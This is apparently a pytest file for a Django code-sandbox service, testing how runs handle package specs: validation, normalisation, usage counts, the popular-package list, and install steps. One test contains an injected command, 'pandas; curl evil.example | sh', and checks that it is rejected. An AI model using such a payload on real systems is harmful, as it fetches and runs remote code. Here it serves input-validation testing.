"""Runs with packages: specs checked when a run starts, usage counted, the popular list, and
the run's "preparing" step installing them (install_failed in the installer's words)."""

from __future__ import annotations

import importlib

import pytest
from channels.db import database_sync_to_async
from django.apps import apps as django_apps
from django.core.exceptions import ValidationError

from sandboxes.engine.runtimes import entry_file
from sandboxes.models import Execution, PackageUsage
from sandboxes.runs.start import execution_start
from sandboxes.selectors import popular_packages
from sandboxes.services.packages import package_usage_record
from tests.waiting import await_status

BRIEF_PYTHON = [
    "numpy", "pandas", "matplotlib", "requests",
    "beautifulsoup4", "scikit-learn", "pillow", "flask",
]  # fmt: skip
BRIEF_NODE = ["axios", "lodash", "express", "cheerio", "dotenv", "date-fns", "zod", "sharp"]


def start(user, packages, runtime="python", code=b"print('hi')\n"):
    entry = entry_file(runtime)
    return execution_start(
        user=user, runtime=runtime, files={entry: code}, entry=entry, packages=packages
    )


@pytest.mark.django_db
def test_a_bad_spec_is_refused_naming_packages_and_the_spec(owner):
    with pytest.raises(ValidationError) as refused:
        start(owner, ["requests", "pandas; curl evil.example | sh"])

    (message,) = refused.value.message_dict["packages"]
    assert "'pandas; curl evil.example | sh'" in message
    assert "shell characters" in message
    assert not Execution.objects.exists()


@pytest.mark.django_db
def test_one_string_instead_of_a_list_is_refused(owner):
    with pytest.raises(ValidationError) as refused:
        start(owner, "pandas")

    assert refused.value.message_dict["packages"] == ["Packages must be a list of package specs."]


def test_a_run_keeps_its_packages_in_normal_form_and_counts_each_one(owner, seeded):
    execution = start(owner, ["Pandas==2.*", "requests", "pandas[excel]"])

    assert execution.packages == ["pandas[excel]==2.*", "requests"]
    counts = dict(PackageUsage.objects.filter(language="python").values_list("name", "count"))
    assert (counts["pandas"], counts["requests"], counts["numpy"]) == (1, 1, 0)
    assert PackageUsage.objects.get(name="pandas").last_used is not None


@pytest.mark.django_db
def test_a_package_nobody_asked_for_before_is_counted_too(owner):
    start(owner, ["@types/node@^20", "zod"], runtime="node", code=b"1")

    assert PackageUsage.objects.get(language="node", name="@types/node").count == 1
    assert PackageUsage.objects.get(language="node", name="zod").count == 1


@pytest.fixture
def seeded(db):
    """The data migration's seed (tests with a transactional database flush it away)."""
    migration = importlib.import_module("sandboxes.migrations.0003_seed_popular_packages")
    migration.seed(django_apps, None)


def test_the_popular_list_starts_as_the_briefs_and_then_follows_use(seeded):
    assert popular_packages("python") == BRIEF_PYTHON
    assert popular_packages("node") == BRIEF_NODE

    package_usage_record(runtime="python3.13", packages=["flask", "polars"])
    package_usage_record(runtime="python3.13", packages=["flask"])

    assert popular_packages("python", limit=3) == ["flask", "polars", "numpy"]


async def output_of(execution: Execution, stream: str = "stdout") -> str:
    """What the program printed, or the installer ("install")."""
    chunks = execution.chunks.filter(stream=stream).values_list("data", flat=True)
    chunks = await database_sync_to_async(list)(chunks)
    return "".join(chunks)


@pytest.mark.sandbox
@pytest.mark.network
@pytest.mark.django_db(transaction=True)
async def test_an_install_failure_ends_the_run_while_preparing(live_dispatcher, owner):
    execution = await database_sync_to_async(start)(owner, ["no-such-package-codesandboxes-4242"])

    execution = await await_status(execution)

    assert execution.status == Execution.Status.INSTALL_FAILED
    assert [status for status, _at in execution.timeline] == [
        "queued", "preparing", "install_failed",
    ]  # fmt: skip
    assert "no-such-package-codesandboxes-4242" in execution.error
    assert "was not found in the package registry" in await output_of(execution, "stderr")


@pytest.mark.sandbox
@pytest.mark.network
@pytest.mark.django_db(transaction=True)
async def test_a_run_with_packages_prepares_then_runs(live_dispatcher, owner):
    code = b"import requests\nprint(requests.__name__)\n"
    execution = await database_sync_to_async(start)(owner, ["requests"], code=code)

    execution = await await_status(execution)

    assert (execution.status, await output_of(execution)) == ("succeeded", "requests\n")
    assert [status for status, _at in execution.timeline] == [
        "queued", "preparing", "running", "succeeded",
    ]  # fmt: skip
